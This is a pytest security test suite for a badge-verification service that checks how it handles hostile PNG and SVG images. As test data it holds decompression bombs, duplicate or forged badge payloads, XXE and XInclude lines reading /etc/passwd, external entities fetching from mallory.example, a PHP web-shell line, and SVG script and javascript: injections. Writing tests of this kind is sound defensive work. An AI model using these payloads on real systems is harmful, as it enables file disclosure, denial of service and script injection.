"""Images that show one badge to us and another to somebody else's software, or that would harm us."""

from __future__ import annotations

import struct
import zlib

import pytest

from badgeservice import verification
from badgeservice.errors import Unreadable
from badgeservice.openbadges import Document, bakery, strict_json
from badgeservice.openbadges.bakery import Version, png, svg
from badgeservice.verification import Report, Verdict, words
from badgeservice.verification.codes import Check, Code
from badgeservice.verification.report import Status
from tests.verification.school import NOW, School

ASSERTION: Document = {
    "@context": "https://w3id.org/openbadges/v2",
    "id": "https://mallory.example/assertions/1",
    "type": "Assertion",
}
OB2, OB3 = "http://openbadges.org", "https://purl.imsglobal.org/ob/v3p0"


def _chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def _header(width: int = 1, height: int = 1) -> bytes:
    return _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))


def _png(*chunks: bytes, header: bytes = _header(), tail: bytes = b"") -> bytes:
    rest = _chunk(b"IDAT", zlib.compress(b"\0\0")) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + rest + tail


def _svg(inside: str = "", *, before: str = "", root: str = "") -> bytes:
    drawn = f'<svg xmlns="http://www.w3.org/2000/svg" {root}>{inside}<rect/></svg>'
    return (before + drawn).encode()


def _badge() -> str:
    return strict_json.dumps(School().issue()).decode()


def _refusal(data: bytes) -> Code:
    with pytest.raises(Unreadable) as refused:
        verification.recognise(data)
    return Code(refused.value.code)


def _report(image: bytes, school: School) -> Report:
    found = verification.recognise(image)
    return verification.verify(found, fetch=school.fetch, register=school, now=NOW)


# --- P1: several badges in a PNG


@pytest.mark.parametrize(
    "keyword", [b"OpenBadgeCredential", b" openbadgecredential", b"OPENBADGES "]
)
@pytest.mark.parametrize("kind", [b"iTXt", b"tEXt"])
def test_p1_a_second_badge_under_another_spelling_is_not_overlooked(
    keyword: bytes, kind: bytes
) -> None:
    """Some software trims keywords or ignores their capitals: a green verdict would cover it."""
    baked = png.bake(_png(), _badge())
    assert verification.recognise(baked).document, "the image is good without the second badge"
    null = b"\0\0\0\0\0" if kind == b"iTXt" else b"\0"
    second = _chunk(kind, keyword + null + strict_json.dumps(ASSERTION))

    assert Code.AMBIGUOUS_IMAGE == _refusal(baked[:33] + second + baked[33:])


@pytest.mark.parametrize("second", ["not a badge", "{}", "https://mallory.example/1", "{"])
def test_p1_a_second_text_that_cannot_be_judged_leaves_the_first_in_doubt(second: str) -> None:
    """What other software makes of it, nobody knows."""
    both = png.bake(png.bake(_png(), _badge()), second, version=Version.V2)

    assert Code.AMBIGUOUS_IMAGE == _refusal(both)


@pytest.mark.parametrize("carrier", bakery.CARRIERS, ids=lambda carrier: carrier.NAME)
def test_p1_a_forged_badge_of_the_older_standard_spoils_the_genuine_one(
    carrier: bakery.Carrier,
) -> None:
    """Both are judged, both are shown, and the image is as good as the worse of them."""
    school = School()
    image = carrier.bake(
        {png: _png(), svg: _svg()}[carrier], strict_json.dumps(school.issue()).decode()
    )  # type: ignore[index]  # modules are hashable
    assert _report(image, school).verdict is Verdict.GREEN
    both = carrier.bake(image, strict_json.dumps(ASSERTION).decode(), version=Version.V2)

    report = _report(both, school)

    assert report.verdict is not Verdict.GREEN
    assert report.beside is not None
    assert report.beside.verdict is not Verdict.GREEN
    assert report.status is Status.ACTIVE, "what is said of the first stays true of the first"
    assert report.find(Code.TWO_BADGES_READ)
    assert report.to_json()["beside"]["verdict"] == report.beside.verdict
    assert words.sentence(report, "en").startswith(
        "This image holds two badges. The first: genuine badge, active. The second, in an older "
    )


# --- P2: bombs in texts


@pytest.mark.parametrize(
    "chunk",
    [
        _chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + zlib.compress(bytes(60_000_000))),
        _chunk(b"iTXt", b"openbadges\0\1\0\0\0" + zlib.compress(bytes(60_000_000))),
        _chunk(b"zTXt", b"openbadges\0\0" + zlib.compress(bytes(60_000_000))),
    ],
    ids=["3.0 iTXt", "2.0 iTXt", "2.0 zTXt"],
)
def test_p2_a_text_that_inflates_without_end_is_refused(chunk: bytes) -> None:
    """58 kB that would become 60 MB are inflated to the bound and no further."""
    assert Code.BAD_IMAGE == _refusal(_png(chunk))


def test_p2_many_compressed_texts_are_refused_before_one_is_inflated() -> None:
    """Seventy times one megabyte is seventy megabytes."""
    bomb = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(1_000_000)))

    assert Code.BAD_IMAGE == _refusal(_png(*[bomb] * 70))


# --- P3 and P4: pictures that are bombs, and files that are two


@pytest.mark.parametrize(
    "header", [_header(50_000, 50_000), _header(2**31 - 1, 2**31 - 1), _header(9_000, 9_000)]
)
def test_p3_no_pixel_of_a_stranger_is_decoded(header: bytes) -> None:
    """A picture of 10 GB is read for its text, in no time."""
    text = b"openbadgecredential\0\0\0\0\0" + _badge().encode()

    assert verification.recognise(_png(_chunk(b"iTXt", text), header=header)).document


@pytest.mark.parametrize(
    "tail", [b"<script>alert(1)</script>", b"PK\x03\x04", b"\0", _png()], ids=range(4)
)
def test_p4_nothing_may_follow_the_picture(tail: bytes) -> None:
    """A PNG that is a page, an archive or a second picture as well."""
    assert Code.BAD_IMAGE == _refusal(png.bake(_png(), _badge()) + tail)


@pytest.mark.parametrize("start", [b"GIF89a", b"II*\0", b"8BPS", b"SIMPLE  ="])
def test_p4_other_formats_are_not_opened_under_the_name_of_png(start: bytes) -> None:
    """The first bytes decide, not a name that somebody gave."""
    assert _refusal(start + bytes(40)) in (Code.FILE_TYPE_UNSUPPORTED, Code.NOT_A_BADGE)


# --- P5: XML that harms its reader

LAUGHS = "<!DOCTYPE svg [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "data",
    [
        _svg(before="<!DOCTYPE svg>"),
        _svg(before="<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/a.dtd'>"),
        _svg("<title>&i;</title>", before=LAUGHS + "]>"),
        _svg("<title>&a;&a;&a;</title>", before=f"<!DOCTYPE svg [<!ENTITY a '{'a' * 99_999}'>]>"),
        _svg(
            "<title>&x;</title>", before="<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
        ),
        _svg("&x;", before="<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://mallory.example/x'>%x;]>"),
        _svg(before="<!DOCTYPE svg SYSTEM 'http://mallory.example/x.dtd'>"),
        _svg(before="<?xml-stylesheet href='http://mallory.example/x.xsl' type='text/xsl'?>"),
        _svg("<?php system($_GET['c']) ?>"),
        _svg(before="<?xml version='1.0' encoding='UTF-7'?>"),
        _svg(before="<?xml version='1.0' encoding='ISO-8859-1'?>"),
        _svg("<title>é</title>").decode().encode("latin-1"),
        _svg("<g>" * 64 + "</g>" * 64),
        b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 100_000,
        _svg("<g/>" * 5_000),
        _svg("<rect " + " ".join(f"a{i}=''" for i in range(5_000)) + "/>"),
    ],
    ids=[
        "document type",
        "public document type",
        "billion laughs",
        "quadratic blow-up",
        "external entity",
        "parameter entity",
        "external document type",
        "stylesheet",
        "instruction",
        "UTF-7",
        "Latin-1 said",
        "Latin-1 kept silent",
        "65 deep",
        "100,000 deep",
        "5,002 elements",
        "5,000 attributes",
    ],
)
def test_p5_dangerous_xml_is_refused(data: bytes) -> None:
    """No document type means no entity; what is deep or wide is not walked to its end."""
    baked = data.replace(
        b"<rect", f"<openbadges:credential xmlns:openbadges='{OB3}'/><rect".encode(), 1
    )

    assert Code.UNSAFE_IMAGE == _refusal(baked)


def test_p5_utf_16_is_no_drawing() -> None:
    """A filter that looks for bytes would not see what is in it."""
    assert Code.BAD_ENCODING == _refusal(
        "<?xml version='1.0' encoding='UTF-16'?><svg/>".encode("utf-16")
    )


def test_p5_a_huge_drawing_is_refused_unparsed() -> None:
    """Half a megabyte is more than any badge needs."""
    assert Code.TOO_LARGE == _refusal(_svg(f"<!--{'x' * 524_288}-->"))


def test_p5_an_inclusion_is_not_followed() -> None:
    """It is an element like any other: nothing is fetched, and no badge comes of it."""
    inside = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'

    assert Code.NOT_BAKED == _refusal(_svg(inside))


# --- P6: drawings that act

ACTIVE = [
    "<script>alert(1)</script>",
    "<g><script href='data:text/javascript,alert(1)'/></g>",
    "<rect onload='alert(1)'/>",
    "<a href='javascript:alert(1)'><rect/></a>",
    "<animate attributeName='href' values='javascript:alert(1)'/>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
    "<style>@import url(https://mallory.example/x.css);</style>",
    "<image href='https://mallory.example/x.png'/>",
    "<use href='#a'/><g id='a'><use href='#a'/></g>",
    "<rect x='&#106;avascript:alert(1)'/>",
]


@pytest.mark.parametrize("active", ACTIVE)
def test_p6_of_a_strangers_drawing_nothing_is_kept_but_the_badge(active: str) -> None:
    """It is never stored, shown or drawn: what comes out holds no word of the drawing."""
    school = School()
    image = svg.bake(_svg(active), strict_json.dumps(school.issue()).decode())

    report = _report(image, school)

    assert report.verdict is Verdict.GREEN
    assert "mallory" not in str(report)
    assert "alert" not in str(report)
    assert verification.recognise(image).text == _badge()


# --- P7: several badges in a drawing


def _element(
    inside: str = "", *, name: str = "credential", space: str = OB3, more: str = ""
) -> str:
    return f'<openbadges:{name} xmlns:openbadges="{space}"{more}>{inside}</openbadges:{name}>'


GENUINE, FORGED = f"<![CDATA[{_badge()}]]>", '<![CDATA[{"proof":[]}]]>'
TOKEN = ' verify="eyJhbGciOiJub25lIn0.e30.AA"'


@pytest.mark.parametrize(
    "inside",
    [
        _element(GENUINE) + _element(FORGED),
        _element(GENUINE) * 2,
        _element(GENUINE) + f"<g>{_element(FORGED)}</g>",
        _element(GENUINE) + f'<credential xmlns="{OB3}">{FORGED}</credential>',
        _element(GENUINE) + _element(FORGED, space="https://purl.imsglobal.org/spec/ob/v3p0"),
        _element(GENUINE) + _element(FORGED, space=OB2),
        _element(GENUINE) + _element(FORGED, space="urn:x", name="Credential"),
        _element(GENUINE) + _element(FORGED, space=f"{OB3} credential"),
        f"<!-- {_element(FORGED)} -->" + _element(GENUINE),
        f"<desc><![CDATA[{_element('')}]]></desc>" + _element(GENUINE),
        _element(GENUINE, more=TOKEN),
        _element(GENUINE, more=' openbadges:verify="eyJ.e30.AA"'),
        _element(GENUINE, more=' Verify="eyJ.e30.AA"'),
        f"<g>{_element(GENUINE)}</g>",
        _element(GENUINE, space="https://purl.imsglobal.org/spec/ob/v3p0"),
        _element(GENUINE, space=OB3.upper()),
        _element(GENUINE, name="Credential"),
        _element(f"{GENUINE}<!-- -->"),
        _element(f"{GENUINE}<g/>"),
        _element(GENUINE + FORGED),
        _element('<![CDATA[{"proof":]]><![CDATA[{"proof":[]}]]>}'),
        _element('<![CDATA[{"proof":]]> <![CDATA[{"proof":[]}]]> <![CDATA[}]]>'),
        _element('{"proof":<![CDATA[{"proof":[]}]]>}'),
        _element(f"<!-- {FORGED} -->{GENUINE}"),
    ],
    ids=range(24),
)
def test_p7_a_drawing_says_in_one_way_which_badge_it_carries(inside: str) -> None:
    """Readers take the first or the last, an attribute or a section, a prefix or a namespace."""
    assert verification.recognise(_svg(_element(GENUINE))).document, "the control is read"

    assert Code.AMBIGUOUS_IMAGE == _refusal(_svg(inside))


@pytest.mark.parametrize(
    "inside",
    [
        _element('{"id":"https://a.example/1"}', more=' verify="https://b.example/1"'),
        _element('{"id":"https://a.example/1"}', more=TOKEN),
        _element('{"id":"urn:x","verify":{"url":"https://a.example/1"}}', more=' verify="urn:x"'),
        _element("[]", more=' verify="https://b.example/1"'),
        _element("{", more=' verify="https://b.example/1"'),
        _element(
            '{"id":"https://a.example/1","verify":{"url":"https://b.example/1"}}',
            more=' verify="https://b.example/1"',
        ),
    ],
    ids=range(6),
)
def test_p7_an_assertion_stands_where_its_attribute_says(inside: str) -> None:
    """Some software goes to the attribute, some to the content."""
    older = inside.replace("credential", "assertion").replace(OB3, OB2)

    assert Code.AMBIGUOUS_IMAGE == _refusal(_svg(older))


def test_p7_an_empty_badge_is_damaged() -> None:
    """An element alone says nothing."""
    assert Code.BAD_IMAGE == _refusal(_svg(_element(" ")))
    assert Code.BAD_IMAGE == _refusal(_svg(_element("", more=' verify=" "')))


def test_every_refusal_of_an_image_is_found_in_the_report() -> None:
    """And none of them is taken for a pass."""
    with pytest.raises(Unreadable) as refused:
        verification.recognise(_svg(before="<!DOCTYPE svg>"))

    report = verification.unreadable(refused.value, now=NOW)

    assert report.verdict is Verdict.UNREADABLE
    assert [(Check.SUBMISSION, Code.UNSAFE_IMAGE)] == [(f.check, f.code) for f in report.findings]
